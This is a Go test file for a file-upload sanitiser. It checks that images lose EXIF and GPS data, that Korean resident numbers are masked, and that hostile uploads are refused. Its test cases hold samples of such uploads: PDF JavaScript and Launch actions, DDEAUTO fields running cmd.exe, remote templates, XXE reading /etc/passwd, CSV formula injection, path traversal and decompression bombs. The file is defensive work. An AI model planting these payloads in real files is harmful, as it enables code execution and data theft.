package paper

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/ascii85"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io"
	"os"
	"runtime"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/text/encoding/korean"
)

const resident1 = "900101-1234568"

// quarters is a picture of four colours: red, green, blue and white, left to right and top to bottom.
func quarters(w, h int) *image.NRGBA {
	m := image.NewNRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			c := []color.NRGBA{{255, 0, 0, 255}, {0, 255, 0, 255}, {0, 0, 255, 255}, {255, 255, 255, 255}}[y*2/h*2+x*2/w]
			m.SetNRGBA(x, y, c)
		}
	}
	return m
}

// corners names the colours of a picture's quarters.
func corners(m image.Image) string {
	b := m.Bounds()
	var s strings.Builder
	for _, p := range []image.Point{{b.Dx() / 4, b.Dy() / 4}, {b.Dx() * 3 / 4, b.Dy() / 4}, {b.Dx() / 4, b.Dy() * 3 / 4}, {b.Dx() * 3 / 4, b.Dy() * 3 / 4}} {
		r, g, bl, _ := m.At(b.Min.X+p.X, b.Min.Y+p.Y).RGBA()
		switch {
		case r > 0xc000 && g > 0xc000 && bl > 0xc000:
			s.WriteByte('W')
		case r > 0xc000:
			s.WriteByte('R')
		case g > 0xc000:
			s.WriteByte('G')
		case bl > 0xc000:
			s.WriteByte('B')
		default:
			s.WriteByte('?')
		}
	}
	return s.String()
}

func asJPEG(t testing.TB, m image.Image) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := jpeg.Encode(&b, m, nil); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func asPNG(t testing.TB, m image.Image) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, m); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// exif is a directory with an orientation and a place.
func exif(turn int) []byte {
	b := []byte("MM\x00*\x00\x00\x00\x08\x00\x02")
	b = append(b, 0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, byte(turn), 0, 0)
	return append(b, append([]byte{0x88, 0x25, 0, 4, 0, 0, 0, 1, 0, 0, 0, 0}, "GPS: 37.3943N 127.1111E"...)...)
}

func withEXIF(data []byte, turn int) []byte {
	body := append([]byte("Exif\x00\x00"), exif(turn)...)
	head := binary.BigEndian.AppendUint16([]byte{0xff, 0xe1}, uint16(len(body)+2))
	return bytes.Join([][]byte{data[:2], head, body, data[2:]}, nil)
}

// chunk is one of a PNG.
func chunk(kind string, body []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(body)))
	b = append(append(b, kind...), body...)
	return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(b[4:]))
}

func zipped(t testing.TB, parts ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i < len(parts); i += 2 {
		f, err := w.Create(parts[i])
		if err == nil {
			_, err = io.WriteString(f, parts[i+1])
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func deflated(t testing.TB, b []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	w := zlib.NewWriter(&out)
	if _, err := w.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// pdf makes a document of objects; a stream follows its dictionary after a |.
func pdf(objects ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n")
	for i, o := range objects {
		fmt.Fprintf(&b, "%d 0 obj\n", i+3)
		if dict, stream, ok := strings.Cut(o, "|"); ok {
			fmt.Fprintf(&b, "%s\nstream\n%s\nendstream", dict, stream)
		} else {
			b.WriteString(o)
		}
		b.WriteString("\nendobj\n")
	}
	b.WriteString("trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n")
	return b.Bytes()
}

func squeezed(t testing.TB, dict, text string) string {
	t.Helper()
	return dict + "|" + string(deflated(t, []byte(text)))
}

func webpOf(t testing.TB) []byte {
	t.Helper()
	b, err := base64.StdEncoding.DecodeString("UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA")
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func gifOf(t testing.TB) []byte {
	t.Helper()
	m := image.NewPaletted(image.Rect(0, 0, 8, 8), color.Palette{color.Black, color.White})
	var b bytes.Buffer
	if err := gif.EncodeAll(&b, &gif.GIF{Image: []*image.Paletted{m, m, m}, Delay: []int{1, 1, 1}}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

const types = `<Types><Default Extension="xml" ContentType="application/xml"/></Types>`

// What every picture comes out as: it decodes, it ends where it ends, and nothing rode along.
func checkImage(t testing.TB, p Paper) image.Image {
	t.Helper()
	r := bytes.NewReader(p.Data)
	m, format, err := image.Decode(r)
	if err != nil || "image/"+format != p.Type {
		t.Fatalf("%s comes out as %s, %v", p.Type, format, err)
	}
	switch format {
	case "jpeg":
		if !bytes.HasSuffix(p.Data, []byte("\xff\xd9")) || bytes.Count(p.Data, []byte("\xff\xd9")) != 1 {
			t.Fatal("something stands behind the end of the picture")
		}
		for i := 2; p.Data[i+1] != 0xda; i += 2 + int(binary.BigEndian.Uint16(p.Data[i+2:])) {
			if m := p.Data[i+1]; m >= 0xe0 && m <= 0xef || m == 0xfe {
				t.Fatalf("it has a segment %x", m)
			}
		}
	case "png":
		i := 8
		for i < len(p.Data) {
			kind := string(p.Data[i+4 : i+8])
			if !strings.Contains("IHDR PLTE tRNS IDAT IEND", kind) {
				t.Fatalf("it has a chunk %s", kind)
			}
			i += 12 + int(binary.BigEndian.Uint32(p.Data[i:]))
			if kind == "IEND" {
				break
			}
		}
		if i != len(p.Data) {
			t.Fatal("something stands behind the end of the picture")
		}
	}
	if bytes.Contains(p.Data, []byte("GPS:")) || bytes.Contains(p.Data, []byte("PK\x05\x06")) {
		t.Fatal("something rode along")
	}
	return m
}

func TestImages(t *testing.T) {
	archive := zipped(t, "evil.exe", "MZ")
	pngData := asPNG(t, quarters(32, 16))
	for _, tt := range []struct {
		name, media, corners string
		data                 []byte
		w, h                 int
	}{
		{"JPEG", "image/jpeg", "RGBW", asJPEG(t, quarters(32, 16)), 32, 16},
		{"JPEG with a ZIP behind it", "image/jpeg", "RGBW", append(asJPEG(t, quarters(32, 16)), archive...), 32, 16},
		{"as it was, 1", "image/jpeg", "RGBW", withEXIF(asJPEG(t, quarters(32, 16)), 1), 32, 16},
		{"mirrored, 2", "image/jpeg", "GRWB", withEXIF(asJPEG(t, quarters(32, 16)), 2), 32, 16},
		{"on its head, 3", "image/jpeg", "WBGR", withEXIF(asJPEG(t, quarters(32, 16)), 3), 32, 16},
		{"4", "image/jpeg", "BWRG", withEXIF(asJPEG(t, quarters(32, 16)), 4), 32, 16},
		{"5", "image/jpeg", "RBGW", withEXIF(asJPEG(t, quarters(32, 16)), 5), 16, 32},
		{"a telephone held upright, 6", "image/jpeg", "BRWG", withEXIF(asJPEG(t, quarters(32, 16)), 6), 16, 32},
		{"7", "image/jpeg", "WGBR", withEXIF(asJPEG(t, quarters(32, 16)), 7), 16, 32},
		{"8", "image/jpeg", "GWRB", withEXIF(asJPEG(t, quarters(32, 16)), 8), 16, 32},
		{"an orientation that is none", "image/jpeg", "RGBW", withEXIF(asJPEG(t, quarters(32, 16)), 9), 32, 16},
		{"PNG", "image/png", "RGBW", pngData, 32, 16},
		{"PNG with a script behind it", "image/png", "RGBW", append(bytes.Clone(pngData), "<script>"...), 32, 16},
		{"PNG with EXIF and text", "image/png", "BRWG", bytes.Join([][]byte{pngData[:33], chunk("eXIf", exif(6)), chunk("tEXt", []byte("a\x00GPS: here")), pngData[33:]}, nil), 16, 32},
		{"GIF that moves", "image/png", "????", gifOf(t), 8, 8},
		{"WebP", "image/jpeg", "????", webpOf(t), 1, 1},
		{"larger than it need be", "image/jpeg", "RGBW", asJPEG(t, quarters(9000, 8)), 4096, 3},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p, err := Clean("x.bin", tt.data)
			if err != nil {
				t.Fatal(err)
			}
			m := checkImage(t, p)
			if b := m.Bounds(); p.Type != tt.media || b.Dx() != tt.w || b.Dy() != tt.h || corners(m) != tt.corners {
				t.Errorf("%s %v %s, want %s %dx%d %s", p.Type, b, corners(m), tt.media, tt.w, tt.h, tt.corners)
			}
			again, err := Clean("y", tt.data)
			if err != nil || !cmp.Equal(p, again) {
				t.Errorf("twice is not the same: %v", err)
			}
		})
	}
}

// A picture that is too large when it is kept exactly becomes a photograph on white.
func TestLargePNGBecomesPhotograph(t *testing.T) {
	m := image.NewNRGBA64(image.Rect(0, 0, 64, 64))
	for y := range 64 {
		for x := range 64 {
			m.SetNRGBA64(x, y, color.NRGBA64{A: uint16(x / 32 * 0xffff)}) // one half is not there, the other black
		}
	}
	exact, err := encoded(m, false, 1<<20)
	if err != nil || exact.Type != "image/png" {
		t.Fatal(exact.Type, err)
	}
	p, err := encoded(m, false, len(exact.Data)-1)
	if err != nil || p.Type != "image/jpeg" {
		t.Fatal(p.Type, err)
	}
	if got := corners(checkImage(t, p)); got != "W?W?" {
		t.Errorf("it looks like %s", got)
	}
}

// sizedPNG says that it is so large.
func sizedPNG(t testing.TB, w, h uint32) []byte {
	t.Helper()
	head := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, w), h)
	head = append(head, 8, 6, 0, 0, 0)
	return bytes.Join([][]byte{[]byte("\x89PNG\r\n\x1a\n"), chunk("IHDR", head), chunk("IDAT", deflated(t, make([]byte, 1<<20))), chunk("IEND", nil)}, nil)
}

func TestRefusals(t *testing.T) {
	photo := asJPEG(t, quarters(32, 16))
	book := []string{"[Content_Types].xml", types, "xl/workbook.xml", "<workbook/>"}
	letter := []string{"[Content_Types].xml", types, "word/document.xml", "<w:document/>"}
	wide := bytes.Clone(photo)
	sof := bytes.Index(wide, []byte("\xff\xc0"))
	binary.BigEndian.PutUint16(wide[sof+5:], 65_000)
	binary.BigEndian.PutUint16(wide[sof+7:], 65_000)
	progressive := bytes.Clone(photo) // 36 million points, and twenty bytes for each
	progressive[sof+1] = 0xc2
	binary.BigEndian.PutUint16(progressive[sof+5:], 6_000)
	binary.BigEndian.PutUint16(progressive[sof+7:], 6_000)
	for c := range 3 {
		progressive[sof+11+3*c] = 0x11
	}
	wideWebP := webpOf(t)
	binary.LittleEndian.PutUint16(wideWebP[26:], 0x3fff)
	binary.LittleEndian.PutUint16(wideWebP[28:], 0x3fff)
	wideGIF := gifOf(t)
	binary.LittleEndian.PutUint16(wideGIF[6:], 0xffff)
	binary.LittleEndian.PutUint16(wideGIF[8:], 0xffff)
	many := book
	for i := range mostParts {
		many = append(many, fmt.Sprintf("xl/a%d.xml", i), "<a/>")
	}
	var armour bytes.Buffer
	a := ascii85.NewEncoder(&armour)
	_, _ = a.Write([]byte("5 0 << /S /JavaScript >>"))
	_ = a.Close()
	for _, tt := range []struct {
		name string
		data []byte
		is   error
		says string
	}{
		{"nothing", nil, ErrBroken, "it is empty"},
		{"20 MB", make([]byte, 20<<20), ErrLarge, "it has 20 MB, at most 10 are taken"},
		{"a program", append([]byte("MZ\x90\x00"), make([]byte, 512)...), ErrType, "it is application/vnd.microsoft.portable-executable"},
		{"a page", []byte("<!DOCTYPE html><script>alert(1)</script>"), ErrType, "print it as PDF"},
		{"a page in UTF-16", append([]byte("\xff\xfe"), inUTF16("<html><script>alert(1)</script>")...), ErrType, "print it as PDF"},
		{"a drawing", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), ErrType, "print it as PDF"},
		{"HEIC", []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"), ErrType, "Most Compatible"},
		{"noise", []byte("\x00\x01\x02\x03\x04\xff\xfe"), ErrType, ""},
		{"RAR", []byte("Rar!\x1a\x07\x01\x00"), ErrType, ""},

		{"a photograph cut short", photo[:len(photo)/2], ErrBroken, "damaged"},
		{"a JPEG of 4 billion points", wide, ErrLarge, "65000 x 65000"},
		{"a progressive JPEG that needs 540 MB", progressive, ErrLarge, "6000 x 6000"},
		{"a PNG of 4 billion points", sizedPNG(t, 65_535, 65_535), ErrLarge, "65535 x 65535"},
		{"a PNG that holds less than it says", sizedPNG(t, 2_000, 2_000), ErrBroken, "damaged"},
		{"a WebP of 268 million points", wideWebP, ErrLarge, "16383 x 16383"},
		{"a GIF of 4 billion points", wideGIF, ErrLarge, "65535 x 65535"},
		{"GIF and script", []byte("GIF89a/*\x00\x00\x00\x00\x00\x2c*/=1;alert(1)//"), ErrBroken, ""},
		{"a PNG that is none", []byte("\x89PNG\r\n\x1a\n<script>alert(1)</script>"), ErrBroken, ""},

		{"PDF cut short", []byte("%PDF-1.7\n1 0 obj\n"), ErrBroken, "cut short"},
		{"PDF behind something else", append([]byte("junk\n"), pdf()...), ErrType, ""},
		{"PDF with something behind it", append(pdf(), "<script>"...), ErrHostile, "8 bytes stand behind the end"},
		{"PDF and ZIP", append(pdf(), zipped(t, "a", "b")...), ErrHostile, ""},
		{"PDF around a ZIP", pdf("<< >>|" + string(zipped(t, "a", "b"))), ErrHostile, "ZIP archive too"},
		{"PDF with a script", pdf("<< /S /JavaScript /JS (app.alert(1)) >>"), ErrHostile, "does something by itself (JavaScript)"},
		{"PDF with a script under another spelling", pdf("<< /S /J#61vaScrip#74 /JS (app.alert(1)) >>"), ErrHostile, "JavaScript"},
		{"PDF with a script that is packed", pdf(squeezed(t, "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>", "5 0 << /S /JavaScript /JS (a) >>")), ErrHostile, "JavaScript"},
		{"PDF with a script that is packed and called a picture", pdf(squeezed(t, "<< /Type /ObjStm /Subtype /Image /N 1 /First 4 >>", "5 0 << /S /JavaScript >>")), ErrHostile, "JavaScript"},
		{"PDF with a script in armour", pdf("<< /Type /ObjStm /N 1 /First 4 /Filter /ASCII85Decode >>|" + armour.String()), ErrHostile, "hides"},
		{"PDF that starts a program", pdf("<< /S /Launch /F (cmd.exe) >>"), ErrHostile, "Launch"},
		{"PDF with a file", pdf("<< /Type /EmbeddedFile >>|MZ"), ErrHostile, "holds other files"},
		{"PDF with a password", []byte(strings.Replace(string(pdf()), "/Root", "/Encrypt 9 0 R /Root", 1)), ErrBroken, "locked"},
		{"PDF of streams", pdf(strings.Repeat("<< >>\nstream\n", mostStreams+1)), ErrHostile, ""},

		{"ZIP", zipped(t, "a.txt", "hello"), ErrType, "ZIP archive"},
		{"ZIP that is none", []byte("PK\x03\x04hello"), ErrBroken, "damaged"},
		{"HWPX", zipped(t, "mimetype", "application/hwp+zip", "Contents/content.hpf", "<a/>"), ErrType, "Hangul document"},
		{"HWP", append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 600)...), ErrType, "save it as PDF"},
		{"slides", zipped(t, "[Content_Types].xml", types, "ppt/presentation.xml", "<p/>"), ErrType, "only XLSX and DOCX"},
		{"macros", zipped(t, append(book, "xl/vbaProject.bin", "x")...), ErrHostile, "macros"},
		{"macros by type", zipped(t, "[Content_Types].xml", "<Types>application/vnd.ms-excel.sheet.macroEnabled.main+xml</Types>", "xl/workbook.xml", "<a/>"), ErrHostile, "macros"},
		{"an object", zipped(t, append(letter, "word/embeddings/oleObject1.bin", "x")...), ErrHostile, "another document"},
		{"a template from elsewhere", zipped(t, append(letter, "word/_rels/settings.xml.rels", `<Relationships><Relationship Id="1" Type="http://x/relationships/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></Relationships>`)...), ErrHostile, "fetches something"},
		{"a link to another book", zipped(t, append(book, "xl/externalLinks/externalLink1.xml", "<a/>")...), ErrHostile, "other documents"},
		{"a field that runs", zipped(t, "[Content_Types].xml", types, "word/document.xml", `<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO c:\\cmd.exe</w:instrText></w:r>`), ErrHostile, "field"},
		{"a formula that fetches", zipped(t, append(book, "xl/worksheets/sheet1.xml", `<c r="A1"><f>WEBSERVICE("http://x")</f><v>1</v></c>`)...), ErrHostile, "formula"},
		{"entities", zipped(t, "[Content_Types].xml", types, "xl/workbook.xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`), ErrHostile, "declares"},
		{"a program in a book", zipped(t, append(book, "xl/evil.exe", "MZ")...), ErrHostile, `"xl/evil.exe"`},
		{"a part outside", zipped(t, append(book, "../evil.xml", "<a/>")...), ErrHostile, "names"},
		{"a part twice", zipped(t, append(book, "xl/Workbook.xml", "<a/>")...), ErrHostile, "names"},
		{"a picture that is none", zipped(t, append(book, "xl/media/image1.png", "MZ")...), ErrHostile, "none"},
		{"thousands of parts", zipped(t, many...), ErrHostile, "parts"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p, err := Clean("photo.jpg", tt.data)
			var r *Refusal
			if !errors.Is(err, tt.is) || !errors.As(err, &r) || !strings.Contains(err.Error(), tt.says) {
				t.Fatalf("got %v and %s; want %v: %s", err, p.Type, tt.is, tt.says)
			}
			if r.Text["ko"] == "" || !strings.Contains(r.Text["en"], "; ") || Key(err) == "" {
				t.Errorf("it does not say what to do: %v", r.Text)
			}
		})
	}
	if Key(nil) != "" || Key(io.EOF) != "" {
		t.Error("other errors have no key")
	}
}

// What unpacks to more than it may is left in the middle, whatever it says of its size.
func TestBombs(t *testing.T) {
	const most = 1 << 20
	bomb := strings.Repeat("\x00", most)
	for _, data := range [][]byte{
		pdf(squeezed(t, "<< /Filter /FlateDecode >>", bomb+"1")), pdf(squeezed(t, "<< >>", bomb), squeezed(t, "<< >>", bomb)),
		pdf("<< >>|" + bomb[:most/2] + "\nstream\n" + bomb[:most/2] + "\nstream\n1"),
	} {
		if _, err := cleanPDF(data, most); !errors.Is(err, ErrHostile) || !strings.Contains(err.Error(), "unpacks to more than 1 MB") {
			t.Errorf("a PDF: %v", err)
		}
	}
	book := []string{"[Content_Types].xml", types, "xl/workbook.xml", "<workbook/>", "xl/a.xml", bomb}
	if _, err := cleanOffice(zipped(t, book...), most); !errors.Is(err, ErrHostile) || !strings.Contains(err.Error(), "unpacks to more than 1 MB") {
		t.Errorf("a workbook: %v", err)
	}
	var drawn []string // each small enough by itself
	for n := range 41 {
		drawn = append(drawn, fmt.Sprintf("xl/media/%d.png", n), string(claims(asPNG(t, quarters(8, 8)), 3_000, 2_000)))
	}
	if _, err := cleanOffice(zipped(t, append(book[:4:4], drawn...)...), mostUnpacked); !errors.Is(err, ErrLarge) {
		t.Errorf("pictures of 246 million points: %v", err)
	}
	if _, err := cleanOffice(lying(t, zipped(t, book...)), most); !errors.Is(err, ErrBroken) {
		t.Errorf("a workbook that lies about its size: %v", err)
	}
}

// claims makes a PNG say that it is so large.
func claims(data []byte, w, h uint32) []byte {
	binary.BigEndian.PutUint32(data[16:], w)
	binary.BigEndian.PutUint32(data[20:], h)
	binary.BigEndian.PutUint32(data[29:], crc32.ChecksumIEEE(data[12:29]))
	return data
}

// lying makes every part of an archive say that it has ten bytes.
func lying(t testing.TB, data []byte) []byte {
	t.Helper()
	for i := 0; ; {
		at := bytes.Index(data[i:], []byte("PK\x01\x02"))
		if at < 0 {
			return data
		}
		i += at + 4
		binary.LittleEndian.PutUint32(data[i+20:], 10)
	}
}

func inUTF16(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return b
}

func TestTexts(t *testing.T) {
	euc, err := korean.EUCKR.NewEncoder().String("주민번호 " + resident1 + " 홍길동\n")
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		file, text, want string
		masked           int
		doubts           []string
	}{
		{"a.txt", "택시를 못 불렀어요. " + resident1, "택시를 못 불렀어요. 900101-1******", 1, nil},
		{"b", euc, "주민번호 900101-1****** 홍길동\n", 1, nil},
		{"c.txt", "\xff\xfe" + string(inUTF16("손해 "+resident1)), "손해 900101-1******", 1, nil},
		{"d.csv", "\ufeff날짜,매출\n2022-10-15,\"1,000\"\n2022-10-16,-500\n", "\ufeff날짜,매출\r\n2022-10-15,\"1,000\"\r\n2022-10-16,-500\r\n", 0, nil},
		{"e.csv", "a,b\n=HYPERLINK(\"http://x\"),+cmd|' /C calc'!A0\n@SUM(1),-1+2\n\" =1\",＝2\n", "\ufeffa,b\r\n\"'=HYPERLINK(\"\"http://x\"\")\",'+cmd|' /C calc'!A0\r\n'@SUM(1),'-1+2\r\n' =1,'＝2\r\n", 0, []string{DoubtFormulas}},
		{"f.txt", "=1,=2\n=3,=4\n", "=1,=2\n=3,=4\n", 0, nil},
		{"g.tsv", "a\tb\n=1\t" + resident1 + "\n", "\ufeffa,b\r\n'=1,900101-1******\r\n", 1, []string{DoubtFormulas}},
	} {
		p, err := Clean(tt.file, []byte(tt.text))
		if err != nil {
			t.Errorf("%s: %v", tt.file, err)
			continue
		}
		if diff := cmp.Diff(tt.want, string(p.Data)); diff != "" || p.Masked != tt.masked || !cmp.Equal(p.Doubts, tt.doubts) {
			t.Errorf("%s: masked %d, doubts %q: %s", tt.file, p.Masked, p.Doubts, diff)
		}
		if again, err := Clean(tt.file, p.Data); err != nil || again.Masked != 0 {
			t.Errorf("%s again: %d masked, %v", tt.file, again.Masked, err)
		}
	}
	for _, d := range []string{DoubtNumbers, DoubtUnread, DoubtFormulas, DoubtLinks} {
		if Tell(d, "ko") == d || Tell(d, "en") != d {
			t.Errorf("%q is not told in both languages", d)
		}
	}
}

// Numbers that a PDF shows are found, whatever its fonts call their letters.
func TestPDFs(t *testing.T) {
	printed, err := os.ReadFile("testdata/printed.pdf") // by Chromium, from a page with a number
	if err != nil {
		t.Fatal(err)
	}
	cmap := "/CIDInit begincmap 1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange <41> <4A> <0030> endbfrange 1 beginbfchar <2D> <002D> endbfchar endcmap"
	list := "begincmap 1 beginbfrange <0001> <0003> [<0039> <0030> <0031>] endbfrange 5 beginbfchar <0004> <0032> <0005> <0033> <0006> <0034> <0007> <0035> <0008> <0036> <0009> <0038> <000a> <002d> endbfchar"
	for _, tt := range []struct {
		name   string
		data   []byte
		doubts []string
	}{
		{"a page printed by Chromium", printed, []string{DoubtNumbers}},
		{"nothing", pdf(), nil},
		{"in clear", pdf("<< >>|BT /F1 12 Tf (" + resident1 + ") Tj ET"), []string{DoubtNumbers}},
		{"packed", pdf(squeezed(t, "<< /Filter /FlateDecode >>", "BT ("+resident1+") Tj ET")), []string{DoubtNumbers}},
		{"in pieces", pdf(squeezed(t, "<< >>", "BT [(9001)-20(01-1)10(2345)] TJ 3 0 Td (68) Tj ET")), []string{DoubtNumbers}},
		{"octal and hexadecimal", pdf(squeezed(t, "<< >>", "BT (\\0719\\60\\0600101\\055) Tj <31323334353638> Tj ET")), nil},
		{"escaped", pdf(squeezed(t, "<< >>", "BT (\\07100101\\055) Tj <31323334353638> Tj ET")), []string{DoubtNumbers}},
		{"two lines", pdf(squeezed(t, "<< >>", "BT (900101-1) Tj 0 -12 Td (234568) Tj ET")), nil},
		{"a font of its own", pdf(squeezed(t, "<< >>", "BT (JAABAB-BCDEFGI) Tj ET"), squeezed(t, "<< >>", cmap)), []string{DoubtNumbers}},
		{"a font of two bytes", pdf(squeezed(t, "<< >>", "BT <0001000200020003000200> Tj <03000a0003000400050006000700080009> Tj ET"), squeezed(t, "<< >>", list)), nil},
		{"a font of two bytes, whole", pdf(squeezed(t, "<< >>", "BT <0001000200020003> Tj <00020003000a0003000400050006000700080009> Tj ET"), squeezed(t, "<< >>", list)), []string{DoubtNumbers}},
		{"a form", pdf("<< /V (" + resident1 + ") >>"), []string{DoubtNumbers}},
		{"a form in UTF-16", pdf(squeezed(t, "<< /Type /ObjStm >>", "/V (\xfe\xff\x009\x000\x000\x001\x000\x001\x00-\x001\x002\x003\x004\x005\x006\x008)")), []string{DoubtNumbers}},
		{"a link", pdf("<< /A << /S /URI /URI (http://x) >> >>"), []string{DoubtLinks}},
		{"what is not read", pdf("<< /Filter /LZWDecode >>|abcdef"), []string{DoubtUnread}},
		{"what is broken", pdf("<< /Filter /FlateDecode >>|x\x9cabcdef"), []string{DoubtUnread}},
		{"a picture", pdf("<< /Subtype /Image /Filter /DCTDecode >>|" + resident1), nil},
		{"other numbers", pdf("<< >>|BT (010-1234-5678) Tj T* (123-45-67890) Tj ET"), nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p, err := Clean("x", tt.data)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.doubts, p.Doubts); diff != "" || !bytes.Equal(p.Data, tt.data) {
				t.Error(diff)
			}
		})
	}
}

// Documents are packed anew, with their numbers masked.
func TestOffice(t *testing.T) {
	photo := withEXIF(asJPEG(t, quarters(32, 16)), 6)
	data := zipped(t, "[Content_Types].xml", types, "xl/workbook.xml", "<workbook/>",
		"xl/sharedStrings.xml", "<sst><si><t>"+resident1+"</t></si><si><t>010-1234-5678</t></si></sst>",
		"xl/worksheets/sheet1.xml", `<row><c r="A1"><v>9001011234568</v></c><c r="A2"><f>SUM(A1:A1)</f><v>1</v></c></row>`,
		"xl/media/image1.jpeg", string(photo), "xl/printerSettings/printerSettings1.bin", "\x00\x01",
		"xl/worksheets/_rels/sheet1.xml.rels", `<Relationship Type="http://x/relationships/hyperlink" Target="http://x" TargetMode="External"/>`)
	p, err := Clean("x", append(data, []byte("behind the end")...))
	if err != nil {
		t.Fatal(err)
	}
	if p.Type != typeXLSX || p.Masked != 2 || !cmp.Equal(p.Doubts, []string{DoubtLinks}) || bytes.Contains(p.Data, []byte("behind")) {
		t.Errorf("%s, %d masked, %q", p.Type, p.Masked, p.Doubts)
	}
	parts, err := unpack(p.Data, mostUnpacked)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, x := range parts {
		got[x.name] = string(x.data)
	}
	for name, want := range map[string]string{
		"xl/sharedStrings.xml":     "<sst><si><t>900101-1******</t></si><si><t>010-1234-5678</t></si></sst>",
		"xl/worksheets/sheet1.xml": `<row><c r="A1"><v>9001011000000</v></c><c r="A2"><f>SUM(A1:A1)</f><v>1</v></c></row>`,
	} {
		if got[name] != want {
			t.Errorf("%s is %s, want %s", name, got[name], want)
		}
	}
	if strings.Contains(got["xl/media/image1.jpeg"], "GPS:") || len(parts) != 7 {
		t.Errorf("%d parts, and where a photograph was taken", len(parts))
	}
	p, err = Clean("x", zipped(t, "[Content_Types].xml", types, "word/document.xml", "<w:p><w:r><w:t>900101-</w:t></w:r><w:r><w:t>1234568</w:t></w:r></w:p><w:p>"+resident1+"</w:p>"))
	if err != nil || p.Type != typeDOCX || p.Masked != 1 || !cmp.Equal(p.Doubts, []string{DoubtNumbers}) {
		t.Errorf("%s, %d masked, %q, %v", p.Type, p.Masked, p.Doubts, err)
	}
}

// What one file may need stays bounded: a large picture is decoded, turned and scaled.
func TestMemory(t *testing.T) {
	data := withEXIF(asJPEG(t, image.NewGray(image.Rect(0, 0, 3_000, 2_000))), 6)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	p, err := Clean("x", data)
	runtime.ReadMemStats(&after)
	if err != nil {
		t.Fatal(err)
	}
	checkImage(t, p)
	if need := (after.TotalAlloc - before.TotalAlloc) >> 20; need > 90 {
		t.Errorf("a picture of 6 million points took %d MB", need)
	}
}

func FuzzClean(f *testing.F) {
	for _, b := range [][]byte{
		asJPEG(f, quarters(8, 8)), withEXIF(asJPEG(f, quarters(8, 8)), 6), asPNG(f, quarters(8, 8)), gifOf(f), webpOf(f),
		[]byte("a,b\n=1,2\n"), []byte(resident1), pdf("<< >>|BT (" + resident1 + ") Tj ET"), pdf(squeezed(f, "<< >>", "BT [(9)-300(0)] TJ ET")),
		pdf("<< >>|begincmap beginbfrange <00> <ff> [<0030>] endbfrange"),
		zipped(f, "[Content_Types].xml", types, "xl/workbook.xml", "<a>"+resident1+"</a>"),
	} {
		f.Add("x.csv", b)
	}
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		p, err := Clean(name, data)
		if err != nil {
			if Key(err) == "" {
				t.Fatalf("no key for forms: %v", err)
			}
			return
		}
		switch p.Type {
		case "image/jpeg", "image/png":
			checkImage(t, p)
		case "application/pdf", typeXLSX, typeDOCX, typeText, typeCSV:
		default:
			t.Fatalf("type %q", p.Type)
		}
		again, err := Clean(name, p.Data)
		if err != nil && !errors.Is(err, ErrLarge) || err == nil && p.Type == typeText && again.Masked > 0 {
			t.Fatalf("what was cleaned is not clean: %d, %v", again.Masked, err)
		}
	})
}
